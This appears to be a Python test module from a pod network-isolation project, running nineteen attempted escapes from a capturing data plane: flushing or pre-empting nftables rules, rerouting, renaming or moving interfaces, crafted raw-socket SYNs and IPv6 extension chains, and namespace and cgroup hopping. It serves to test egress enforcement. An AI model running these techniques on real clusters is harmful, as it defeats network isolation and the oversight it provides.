"""Changes what it may of its pod and then connects; every failure on the way is reported.

Run as `python -m tests.attacks.escape CASE HOST PORT MARKER [ARGUMENT]`.
"""

from __future__ import annotations

import os
import socket
import struct
import subprocess
import sys
import time
from functools import partial
from pathlib import Path
from typing import TYPE_CHECKING

from tests.attacks.handmade import (
    SYN,
    Ends,
    Segment,
    own_address,
    packet,
    packet_v4,
    packet_v6,
    tcp,
)
from tests.attacks.talk import (
    attempt,
    call,
    connected,
    error_name,
    report,
    stream,
)

if TYPE_CHECKING:
    from collections.abc import Callable

MARK = 0x539
CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
ETH_P_IP = 0x0800
# An address that only a rule of the attacker's makes into the destination.
ALIAS = "203.0.113.77"


def main(case: str, host: str, port: int, marker: str, argument: str) -> None:
    CASES[case](host, port, marker, argument)


def flush(host: str, port: int, marker: str, _: str) -> None:
    # More than once: the agent may repair the rules between the two steps.
    for _turn in range(3):
        _shell("nft flush ruleset")
        _talk("talk", host, port, marker)


def untrack(host: str, port: int, marker: str, _: str) -> None:
    """Without a connection entry there is no address translation."""
    _nft("chain raw { type filter hook output priority -300; meta l4proto tcp notrack; }")
    _talk("talk", host, port, marker)


def translate(host: str, port: int, marker: str, _: str) -> None:
    """A translation of one's own, made before ours."""
    _nft(
        "chain early { type nat hook output priority -150;"
        f" ip daddr {ALIAS} tcp dport {port} dnat ip to {host}:{port}; }}"
    )
    _talk("talk", ALIAS, port, marker)


def translate_listener(host: str, port: int, marker: str, _: str) -> None:
    """Leads what was caught already to somewhere else."""
    _nft(
        "chain early { type nat hook output priority -150;"
        f" tcp dport 15001 dnat ip to {host}:{port}; }}",
        "chain late { type nat hook postrouting priority 90; oifname eth0 masquerade; }",
    )
    _talk("talk", host, port, marker)


def route_local(host: str, port: int, marker: str, _: str) -> None:
    """The destination becomes an address of the pod, which reaches itself uncaptured."""
    _shell(f"ip route add local {host} dev lo")
    _talk("talk", host, port, marker)


def route_by_mark(host: str, port: int, marker: str, _: str) -> None:
    _shell("ip route add default via 169.254.1.1 dev eth0 table 77")
    _shell("ip rule add pref 5 fwmark 0x77 lookup 77")
    _talk("talk", host, port, marker, mark=0x77)


def rename_link(host: str, port: int, marker: str, _: str) -> None:
    """The way out takes the name of the loopback, by which rules know a pod's calls to itself."""
    own = own_address(host)
    _shell("ip link set lo down && ip link set lo name inner && ip link set inner up")
    _shell("ip link set eth0 down && ip link set eth0 name lo && ip link set lo up")
    _shell("ip route add 169.254.1.1/32 dev lo scope link")
    _shell(f"ip route add default via 169.254.1.1 dev lo src {own}")
    _talk("talk", host, port, marker)


def move_link(host: str, port: int, marker: str, namespace: str) -> None:
    """Gives the way out to the node."""
    _shell(f"ip link set eth0 netns {namespace}")
    _talk("talk", host, port, marker)


def packet_socket(host: str, port: int, marker: str, _: str) -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP)) as sock:
        gateway = _neighbour("169.254.1.1")
        sock.sendto(_syn(host, port), ("eth0", ETH_P_IP, 0, 0, gateway))
    report("sent")


def raw_socket(host: str, port: int, marker: str, _: str) -> None:
    syn = _segment(host, port, marker)
    _raw("header of its own", socket.IPPROTO_RAW, host, packet(syn))
    _raw("the kernel's header", socket.IPPROTO_TCP, host, tcp(syn))


def raw_icmp_socket(host: str, port: int, marker: str, _: str) -> None:
    """One that may write its header, and another protocol into it."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        syn = packet(_segment(host, port, marker))
        _try("sent", lambda: sock.sendto(syn, (host, 0)))


def raw_fragment(host: str, port: int, marker: str, _: str) -> None:
    syn = _segment(host, port, marker)
    whole, cut = tcp(syn), 16
    first = packet_v4(syn.ends, whole[:cut], more=True)
    _raw("first", socket.IPPROTO_RAW, host, first)
    _raw("second", socket.IPPROTO_RAW, host, packet_v4(syn.ends, whole[cut:], offset=cut))


def raw_v6(_: str, port: int, marker: str, host: str) -> None:
    syn = _segment(host, port, marker)
    _raw("header of its own", socket.IPPROTO_RAW, host, packet_v6(syn))
    _raw("the kernel's header", socket.IPPROTO_TCP, host, tcp(syn))


def raw_v6_extensions(_: str, port: int, marker: str, host: str) -> None:
    """Numbers by RFC 8200 section 4: 0 hop by hop, 44 fragment, 60 destination options."""
    syn, padding = _segment(host, port, marker), b"\x00\x01\x04\x00\x00\x00\x00"
    whole, first, later = (b"\x00" + struct.pack("!HI", place, 7) for place in (0, 1, 8 << 3))
    chains = {
        "options": ((60, padding),),
        "long options": ((60, b"\x02\x01\x14" + bytes(20)),),
        "all kinds": ((0, padding), (60, padding), (44, whole), (60, padding)),
        "first fragment": ((44, first),),
        "later fragment": ((44, later),),
        "more than anybody needs": ((60, padding),) * 12,
    }
    for name, chain in chains.items():
        _raw(name, socket.IPPROTO_RAW, host, packet_v6(syn, *chain))


def ping(host: str, port: int, marker: str, host6: str) -> None:
    """As a tool would that has a raw socket for it."""
    for address, protocol, kind in ((host, 1, 8), (host6, 58, 128)):
        family = socket.AF_INET if address == host else socket.AF_INET6
        with socket.socket(family, socket.SOCK_RAW, protocol) as sock:
            sock.settimeout(5)
            sock.connect((address, 0))
            echo = struct.pack("!BBHHH", kind, 0, 0, 4711, 1)
            # IPv6's checksum is the kernel's to make.
            checksum = ~(kind << 8 | 0) - 4711 - 1 & 0xFFFF if protocol == 1 else 0
            sock.send(echo[:2] + struct.pack("!H", checksum) + echo[4:])
            answer = sock.recv(1 << 16)
            report(f"answer by ICMP {protocol}", bytes=len(answer))


def datagram(host: str, port: int, marker: str, _: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(marker.encode(), (host, port))
    report("sent")


def user_namespace(host: str, port: int, marker: str, _: str) -> None:
    """All rights, but in a namespace that doesn't own the pod's network."""
    _try("unshare", lambda: call("unshare", CLONE_NEWUSER))
    _shell("nft flush ruleset")
    _shell(f"ip route add local {host} dev lo")
    _talk("talk", host, port, marker, mark=MARK)


def enter_namespace(host: str, port: int, marker: str, path: str) -> None:
    def enter() -> None:
        with Path(path).open() as handle:
            call("setns", handle.fileno(), CLONE_NEWNET)

    _try("setns", enter)
    _talk("talk", host, port, marker)


def move_cgroup(host: str, port: int, marker: str, leaf: str) -> None:
    """Into a cgroup, or any that this process can see, with the data plane's mark set."""
    own = Path("/proc/self/cgroup").read_text()
    folders = [Path(leaf)] if leaf else _cgroups()
    for folder in folders:
        _try(f"move to {folder.name}", partial(_join, folder))
    report("moved", moved=Path("/proc/self/cgroup").read_text() != own, tried=len(folders))
    _talk("talk", host, port, marker, mark=MARK)


def _talk(name: str, host: str, port: int, marker: str, *, mark: int = 0) -> None:
    def opened() -> socket.socket:
        sock = stream(host)
        if mark:
            _try("mark", lambda: sock.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, mark))
        return connected(sock, host, port)

    attempt(name, opened, marker)


def _shell(command: str, text: str = "") -> None:
    done = subprocess.run(
        command, shell=True, input=text, capture_output=True, text=True, check=False
    )
    report(command, code=done.returncode, text=done.stderr.strip())


def _nft(*chains: str) -> None:
    _shell("nft -f -", "\n".join(["table inet attacker {", *chains, "}", ""]))


def _try(name: str, step: Callable[[], object]) -> None:
    try:
        step()
        report(name, code=0)
    except OSError as exc:
        report(name, code=1, text=error_name(exc))


def _syn(host: str, port: int) -> bytes:
    return packet(_segment(host, port, ""))


def _segment(host: str, port: int, marker: str) -> Segment:
    return Segment(Ends(own_address(host), 34_567, host, port), SYN, 1000, 0, marker.encode())


def _raw(name: str, protocol: int, host: str, data: bytes) -> None:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_RAW, protocol) as sock:
        _try(name, lambda: sock.sendto(data, (host, 0)))


def _neighbour(address: str) -> bytes:
    """Its link-layer address, which a datagram towards it makes the kernel learn."""
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(b"", (address, 9))
        for line in Path("/proc/net/arp").read_text().splitlines():
            fields = line.split()
            if fields[0] == address and fields[3] != "00:00:00:00:00:00":
                return bytes.fromhex(fields[3].replace(":", ""))
        time.sleep(0.01)
    raise TimeoutError(f"{address} has no link-layer address")


def _cgroups() -> list[Path]:
    found = []
    for line in Path("/proc/self/mounts").read_text().splitlines():
        fields = line.split()
        if fields[2] == "cgroup2":
            found += [Path(folder) for folder, _, _ in os.walk(fields[1])]
    return found


def _join(folder: Path) -> None:
    (folder / "cgroup.procs").write_text(str(os.getpid()))


CASES: dict[str, Callable[[str, int, str, str], None]] = {
    "flush": flush,
    "untrack": untrack,
    "translate": translate,
    "translate_listener": translate_listener,
    "route_local": route_local,
    "route_by_mark": route_by_mark,
    "rename_link": rename_link,
    "move_link": move_link,
    "packet_socket": packet_socket,
    "raw_socket": raw_socket,
    "raw_icmp_socket": raw_icmp_socket,
    "raw_fragment": raw_fragment,
    "raw_v6": raw_v6,
    "raw_v6_extensions": raw_v6_extensions,
    "ping": ping,
    "datagram": datagram,
    "user_namespace": user_namespace,
    "enter_namespace": enter_namespace,
    "move_cgroup": move_cgroup,
}


if __name__ == "__main__":
    main(
        sys.argv[1],
        sys.argv[2],
        int(sys.argv[3]),
        sys.argv[4],
        sys.argv[5] if len(sys.argv) > 5 else "",
    )
